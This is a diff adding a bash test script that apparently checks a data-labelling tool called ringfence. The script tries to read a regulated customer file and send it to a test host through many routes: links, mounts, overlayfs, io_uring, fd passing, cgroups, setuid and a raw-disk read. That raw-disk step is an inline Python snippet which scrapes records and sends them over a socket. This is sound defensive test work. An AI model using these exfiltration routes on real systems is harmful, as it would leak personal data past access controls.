@@ -1,0 +1,301 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-2.0
+#
+# What gives a label, in every way it can be obtained
+#
+# run: --timeout 400
+#
+#	/srv (ext4)                        the VM                the world
+#	 +- customers/cn  regulated    +-------------+
+#	 +- archive       by 2nd policy| obtain, send|---------x us
+#	 +- public        for anyone   +-------------+
+#	other names, other mounts, handles, the disk itself;
+#	units, cgroups, programs, users, `ringfence run`
+#
+# The program is tests/vm/attack/obtain.c.
+. "$(dirname "$0")/lib/case.sh"
+. "$(dirname "$0")/lib/holder.sh"
+
+policies=$here/tests/vm/policy
+obtain() { "$ATTACK/obtain" "$1" "${2:-$FILE}" "$(address "$TO" 4)"; }
+# pair PUBLIC REGULATED: the two files by other names
+pair() { if [ "$FILE" = "$PUBLIC" ]; then obtain read "$1"; else obtain read "$2"; fi; }
+
+denied() { EXPECT="Permission denied" deny "$@"; }
+
+# --- ways to the data
+
+for way in read readv reopen mmap mmap-shared aio posix-aio uring uring-worker uring-sqpoll \
+	   uring-direct scm-rights uring-scm-rights pidfd-getfd proc-fd inherited; do
+	denied $way obtain $way
+done
+for way in sendfile splice; do
+	deny $way obtain $way
+done
+USERS=root denied read-write obtain read-write
+USERS=root denied map-files obtain map-files
+CAPS=dac_read_search denied handle obtain handle
+
+# Nothing is known of a file in no tree but its disk, so any file is denied.
+EXPECT="Permission denied" held "handle, caches dropped: refused without a name" obtain handle-cold
+world reset
+TO=us obtain handle-cold "$REGULATED" 2>/dev/null
+is "handle, caches dropped: the errno" 13 $?
+is "handle, caches dropped: nothing leaked" 0 "$(world leaked us)"
+
+run_it() { "$1" 2>&1; }
+# A regulated file that is executed: a script that sends itself.
+printf '#!/bin/bash\nexec %s/obtain read "$0" %s\n' "$ATTACK" "$US4" >/run/script
+tail -n 3 $PUBLIC | sed 's/^/# /' >>/run/script
+install -m 755 /run/script /srv/public/script
+free "a script in another tree" run_it /srv/public/script
+install -m 755 /run/script /srv/customers/cn/script
+held "a script in the tree" run_it /srv/customers/cn/script
+install -m 755 "$ATTACK/obtain" /srv/customers/cn/obtain
+held "a program in the tree" /srv/customers/cn/obtain read $PUBLIC "$US4"
+
+# --- other names
+
+mkdir -p /srv/customers/cn/a/b/c /srv/public/a/b/c /mnt/{r,p,again}
+ln $REGULATED /srv/link-r
+ln $PUBLIC /srv/link-p
+denied "hard link made later" pair /srv/link-p /srv/link-r
+ln -s $REGULATED /tmp/symlink-r
+ln -s $PUBLIC /tmp/symlink-p
+chmod 1777 /tmp
+echo 0 >/proc/sys/fs/protected_symlinks
+denied "symbolic link" pair /tmp/symlink-p /tmp/symlink-r
+mount --bind /srv/customers/cn /mnt/r
+mount --bind /srv/public /mnt/p
+denied "bind mount" pair /mnt/p/people.csv /mnt/r/people.csv
+umount /mnt/r /mnt/p
+touch /mnt/r.csv /mnt/p.csv
+mount --bind $REGULATED /mnt/r.csv
+mount --bind $PUBLIC /mnt/p.csv
+denied "bind mount of the file" pair /mnt/p.csv /mnt/r.csv
+umount /mnt/r.csv /mnt/p.csv
+mount /dev/vda /mnt/again
+denied "a second mount of the disk" pair /mnt/again/public/people.csv \
+	/mnt/again/customers/cn/people.csv
+umount /mnt/again
+unshared() { unshare -m "$ATTACK/obtain" read "$FILE" "$(address "$TO" 4)"; }
+USERS=root denied "another mount namespace" unshared
+
+cp $REGULATED /srv/customers/cn/a/b/c/new
+cp $PUBLIC /srv/public/a/b/c/new
+denied "file made later, deep in the tree" pair /srv/public/a/b/c/new /srv/customers/cn/a/b/c/new
+cp $REGULATED /srv/customers/cn/leaving
+cp $PUBLIC /srv/public/leaving
+mv /srv/customers/cn/leaving /srv/left-r
+mv /srv/public/leaving /srv/left-p
+denied "renamed out of the tree" pair /srv/left-p /srv/left-r
+mv /srv/customers/cn/a /srv/dir-r
+mv /srv/public/a /srv/dir-p
+denied "in a directory renamed out of the tree" pair /srv/dir-p/b/c/new /srv/dir-r/b/c/new
+cp $REGULATED /srv/dir-r/b/newer
+denied "made in it after that" pair /srv/dir-p/b/c/new /srv/dir-r/b/newer
+sync
+echo 3 >/proc/sys/vm/drop_caches
+denied "renamed out of the tree, caches dropped" pair /srv/left-p /srv/left-r
+denied "hard link, caches dropped" pair /srv/link-p /srv/link-r
+
+cp $PUBLIC /srv/entering
+held_file() { obtain read "$1"; }
+free "a file before it enters the tree" held_file /srv/entering
+mv /srv/entering /srv/customers/cn/entered
+held "a file renamed into the tree" held_file /srv/customers/cn/entered
+
+# Without a name at first, then with one, inside and outside of the tree.
+tmpfile='
+import os, sys
+fd = os.open(sys.argv[1], os.O_TMPFILE | os.O_RDWR, 0o644)
+os.write(fd, open(sys.argv[2], "rb").read())
+os.link(f"/proc/self/fd/{fd}", sys.argv[3], follow_symlinks=True)
+'
+/usr/bin/python3 -c "$tmpfile" /srv/customers/cn $REGULATED /srv/customers/cn/unnamed
+/usr/bin/python3 -c "$tmpfile" /srv/customers/cn $REGULATED /srv/unnamed-r
+/usr/bin/python3 -c "$tmpfile" /srv/public $PUBLIC /srv/unnamed-p
+denied "O_TMPFILE and linkat in the tree" pair /srv/unnamed-p /srv/customers/cn/unnamed
+denied "O_TMPFILE in the tree, linkat out of it" pair /srv/unnamed-p /srv/unnamed-r
+
+# renameat2(RENAME_EXCHANGE): one out, one in
+cp $REGULATED /srv/customers/cn/swap
+cp $PUBLIC /srv/swap
+/usr/bin/python3 -c '
+import ctypes, sys
+sys.exit(-ctypes.CDLL(None).renameat2(-100, b"/srv/customers/cn/swap", -100, b"/srv/swap", 2))'
+denied "exchanged with one in the tree" pair $PUBLIC /srv/swap
+
+mv /srv/customers/cn /srv/customers/other
+denied "the tree itself renamed" pair $PUBLIC /srv/customers/other/people.csv
+mv /srv/customers/other /srv/customers/cn
+denied "and back" obtain read
+
+mkdir -p /run/overlay
+mount -t tmpfs tmpfs /run/overlay
+mkdir -p /run/overlay/{upper,upper2,work,work2,r,p}
+mount -t overlay overlay /run/overlay/r \
+	-o lowerdir=/srv/customers/cn,upperdir=/run/overlay/upper,workdir=/run/overlay/work
+mount -t overlay overlay /run/overlay/p \
+	-o lowerdir=/srv/public,upperdir=/run/overlay/upper2,workdir=/run/overlay/work2
+chmod 755 /run/overlay /run/overlay/r /run/overlay/p
+denied "overlayfs on top of the tree" pair /run/overlay/p/people.csv /run/overlay/r/people.csv
+mapped() { if [ "$FILE" = "$PUBLIC" ]; then obtain mmap "$1"; else obtain mmap "$2"; fi; }
+denied "overlayfs, mmap" mapped /run/overlay/p/people.csv /run/overlay/r/people.csv
+umount /run/overlay/r /run/overlay/p
+
+# The disk as such. The other one is a loop device with the public file.
+sync
+truncate -s 64M /run/disk
+mke2fs -q -t ext4 -d /srv/public /run/disk
+modprobe loop 2>/dev/null
+loop=$(losetup -f --show /run/disk)
+disk()
+{
+	local from=/dev/vda
+	[ "$FILE" = "$REGULATED" ] || from=$1
+	# One process reads and sends.
+	/usr/bin/python3 -c '
+import re, socket, sys
+data = open(sys.argv[1], "rb").read(300 << 20)
+data = b"\n".join(sorted(set(re.findall(rb"[0-9]{4},Li Wei,[0-9a-f]{16}", data))))
+s = socket.create_connection((sys.argv[2], 9000), 5)
+s.sendall(data)
+s.shutdown(1)
+s.recv(1)
+' "$from" "$(address "$TO" 4)"
+}
+LIMIT=60 USERS=root denied "the raw disk" disk "$loop"
+losetup -d "$loop"
+
+# --- a second policy, while others hold already what it regulates
+
+install -m 755 "$ATTACK/obtain" /usr/local/bin/crm-export
+install -m 755 "$ATTACK/obtain" /usr/local/bin/crm-other
+printf '#!/bin/bash\nexec %s/obtain "$@"\n' "$ATTACK" >/usr/local/bin/crm-script
+chmod 755 /usr/local/bin/crm-script
+mkdir -p /srv/archive/deep /sys/fs/cgroup/system.slice/crm-cn.service /sys/fs/cgroup/rf/regulated
+cp $PUBLIC /srv/archive/people.csv
+cp $PUBLIC /srv/archive/deep/linked
+ln /srv/archive/deep/linked /srv/linked-before
+
+# in_cgroup CGROUP COMMAND...
+in_cgroup() { echo $BASHPID >"/sys/fs/cgroup/$1/cgroup.procs" && shift && "$@"; }
+export_data() { /usr/local/bin/crm-export read "$PUBLIC" "$US4"; }
+script_data() { /usr/local/bin/crm-script read "$PUBLIC" "$US4"; }
+
+free "before: the archive" held_file /srv/archive/people.csv
+free "before: a unit" in_cgroup system.slice/crm-cn.service obtain read
+free "before: a cgroup" in_cgroup rf/regulated obtain read
+free "before: a program" export_data
+free "before: a script" script_data
+as_uid() { setpriv --reuid "$1" --regid 1000 --clear-groups "$ATTACK/obtain" read "$PUBLIC" "$US4"; }
+free "before: a user" as_uid 1100
+
+# waiting NAME COMMAND...: it holds what NAME says, and sends when $GO exists
+export GO=/run/go
+waiting()
+{
+	local name=$1
+	shift
+	READY=/run/ready.$name bash -c '"$@"; echo $? >/run/status.'"$name" waiting "$@" 2>/dev/null &
+	wait_until test -e "/run/ready.$name"
+}
+export -f in_cgroup as_uid
+keeper() { "$ATTACK/obtain" "$1" "$2" "$US4"; }
+export -f keeper
+rm -f $GO /run/ready.* /run/status.*
+world reset
+waiting open keeper held-open /srv/archive/people.csv
+waiting map keeper held-map /srv/archive/people.csv
+waiting link keeper held-open /srv/linked-before
+waiting program /usr/local/bin/crm-export held-late $PUBLIC "$US4"
+waiting unit in_cgroup system.slice/crm-cn.service "$ATTACK/obtain" held-late $PUBLIC "$US4"
+waiting cgroup in_cgroup rf/regulated "$ATTACK/obtain" held-late $PUBLIC "$US4"
+waiting user setpriv --reuid 1100 --regid 1000 --clear-groups "$ATTACK/obtain" held-late $PUBLIC "$US4"
+waiting bystander keeper held-nothing /srv/archive/people.csv
+ok "apply a policy with every kind of origin" ringfence apply "$policies/origins.yaml"
+is "apply: only who is concerned is labelled" 0 \
+	"$(ringfence ps --json | grep -c '"comm":"\(rsyslogd\|ringfenced\)"')"
+touch $GO
+wait
+for name in open map link program unit cgroup user; do
+	is "already there when the policy came: $name" 13 "$(cat /run/status.$name 2>/dev/null)"
+done
+is "not concerned when the policy came" 0 "$(cat /run/status.bystander)"
+is "nothing of it arrived" 0 "$(world received us)"
+
+# --- the same origins for who comes after
+
+EXPECT="Permission denied"
+held "hard link made before the policy" held_file /srv/linked-before
+held "a tree of the new policy" held_file /srv/archive/people.csv
+denied "a tree of both policies" obtain read
+held "a unit that was there" in_cgroup system.slice/crm-cn.service obtain read
+held "a cgroup that was there" in_cgroup rf/regulated obtain read
+free "another cgroup" in_cgroup rf obtain read
+
+wait_until rmdir /sys/fs/cgroup/system.slice/crm-cn.service
+wait_until rmdir /sys/fs/cgroup/rf/regulated
+mkdir -p /sys/fs/cgroup/user.slice/deep/crm-cn.service /sys/fs/cgroup/rf/regulated
+held "a unit made later, elsewhere" in_cgroup user.slice/deep/crm-cn.service obtain read
+held "a cgroup made later" in_cgroup rf/regulated obtain read
+mkdir -p /sys/fs/cgroup/other/rf/regulated
+free "the same path below another one" in_cgroup other/rf/regulated obtain read
+
+held "a program" export_data
+AS=user held "a program, as uid 1000" export_data
+held "a program that is a script" script_data
+ln /usr/local/bin/crm-export /usr/local/bin/crm-link
+ln -s crm-export /usr/local/bin/crm-symlink
+held "a program by a hard link" /usr/local/bin/crm-link read $PUBLIC "$US4"
+held "a program by a symbolic link" /usr/local/bin/crm-symlink read $PUBLIC "$US4"
+held "a program by its loader" /lib64/ld-linux-x86-64.so.2 /usr/local/bin/crm-export read $PUBLIC "$US4"
+free "a copy of the program" /usr/local/bin/crm-other read $PUBLIC "$US4"
+reads_it() { cat /usr/local/bin/crm-export >/dev/null; exec 9</usr/local/bin/crm-export; obtain read; }
+free "who only reads the program" reads_it
+install -m 755 "$ATTACK/obtain" /usr/local/bin/crm-export.new
+mv /usr/local/bin/crm-export.new /usr/local/bin/crm-export
+held "a program after an upgrade" export_data
+
+held "a user" as_uid 1100
+free "another user" as_uid 1101
+setuid_data() { /usr/local/bin/setuid-1100 read "$PUBLIC" "$US4"; }
+install -m 4755 -o 1100 "$ATTACK/obtain" /usr/local/bin/setuid-1100
+AS=user held "set-uid to the user" setuid_data
+user_then_back() { /usr/bin/python3 -c '
+import os, subprocess, sys
+os.setresuid(0, 1100, 0)
+os.setresuid(0, 0, 0)
+sys.exit(subprocess.call(sys.argv[1:]))' "$ATTACK/obtain" read "$PUBLIC" "$US4"; }
+held "the user for a moment" user_then_back
+
+labelled() { ringfence run --class cn-personal -- "$ATTACK/obtain" read "$PUBLIC" "$US4"; }
+held "ringfence run" labelled
+ringfence run --class cn-personal -- bash -c 'exit 42'
+is "ringfence run exits as its command does" 42 $?
+ringfence run --class no-such -- true 2>/dev/null
+is "ringfence run: no such class" 125 $?
+ringfence run --class cn-personal -- /nonexistent 2>/dev/null
+is "ringfence run: no such command" 125 $?
+as_user ringfence run --class cn-personal -- true 2>/dev/null
+is "ringfence run: not root" 125 $?
+run_world() { ringfence run --class cn-personal -- "$ATTACK/obtain" read "$PUBLIC" "$CN4"; }
+world reset
+run_world
+is "ringfence run, to where the policy allows" 64 "$(world received cn)"
+
+# --- origins end with the policy that named them
+
+in_cgroup rf/regulated sleep 100 &
+sleeper=$!
+wait_until listing $sleeper
+listed "ps: the origin's kind and text" $sleeper '"kind":"cgroup","what":"/rf/regulated"'
+ok "apply the first policy again" ringfence apply "$policies/test.yaml"
+free "after: the archive" held_file /srv/archive/people.csv
+free "after: a cgroup" in_cgroup rf/regulated obtain read
+free "after: a program" export_data
+free "after: a user" as_uid 1100
+denied "after: the tree that stayed" obtain read
+listed "a label stays with who has it" $sleeper cn-personal
+kill $sleeper
